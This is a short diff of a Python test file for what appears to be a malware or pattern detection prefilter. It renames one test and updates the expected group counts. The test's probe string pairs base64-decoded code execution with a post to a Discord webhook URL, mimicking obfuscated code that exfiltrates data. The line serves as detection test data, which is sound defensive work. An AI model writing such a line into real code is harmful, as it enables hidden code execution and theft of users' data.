@@ -68,9 +68,9 @@ def test_every_part_must_answer_and_every_group_find_the_probe() -> None:
         assert blinded.Match(probe) == [BLIND]
 
 
-def test_the_prefilters_pairs_are_two_sets_and_the_probe_reaches_each_group() -> None:
+def test_the_prefilters_solo_set_is_two_its_pairs_three_and_the_probe_reaches_each() -> None:
     sets = prefilter()._set
-    assert sets.groups == [0, 1, 1]
+    assert sets.groups == [0, 0, 1, 1, 1]
     assert prefilter().engine_answers(
         'exec(b64decode(x)); post("https://discord.com/api/webhooks/1/a")'
     )
